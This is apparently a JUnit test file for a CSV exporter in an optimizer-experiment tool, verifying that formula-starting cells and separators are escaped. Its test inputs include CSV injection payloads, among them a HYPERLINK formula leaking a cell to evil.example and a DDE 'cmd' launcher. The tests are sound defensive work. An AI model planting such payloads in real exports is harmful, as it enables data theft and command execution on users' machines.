package dev.lrlab.experiment;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lrlab.spec.Limits;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** User text in a CSV is a cell of text: never a formula, never a second cell or row. */
class CsvCellsTest {

    @Test
    void formulaStartsAreDefusedAndSeparatorsQuoted() {
        assertThat(CsvCells.text("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvCells.text("+1")).isEqualTo("'+1");
        assertThat(CsvCells.text("-1")).isEqualTo("'-1");
        assertThat(CsvCells.text("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvCells.text("\tcmd")).isEqualTo("'\tcmd");
        assertThat(CsvCells.text("\rcmd")).isEqualTo("\"'\rcmd\"");
        assertThat(CsvCells.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
        assertThat(CsvCells.text("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvCells.text("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(CsvCells.text("SGD η=0.1")).isEqualTo("SGD η=0.1");
        assertThat(CsvCells.text("")).isEmpty();
        assertThat(CsvCells.text(null)).isEmpty();
    }

    @Test
    void theTrajectoryCsvWritesHostileLabelsAsText() {
        List<String> labels = List.of("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "+1", "\tx", "ok, fine");
        List<Map<String, Object>> runs = labels.stream().map(l -> Map.<String, Object>of("label", l, "steps", 1,
                "optimizer", Map.of("type", "sgd", "lr", 0.1))).toList();
        String csv;
        try (ExperimentService service = new ExperimentService(Limits.DEFAULT, 1, 10_000)) {
            csv = CsvExport.csv(service.simulate(Map.of("landscape", Map.of("type", "quadratic",
                    "eigenvalues", List.of(1, 10)), "runs", runs)));
        }
        List<String> labelCells = csv.lines().skip(1).filter(l -> l.endsWith(",,,")) // each run's last row
                .map(l -> l.substring(l.indexOf(',') + 1, l.lastIndexOf(",1,"))).toList();
        assertThat(labelCells).containsExactly("'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "'-2+3", "'+1", "'\tx",
                "\"ok, fine\"");
    }
}
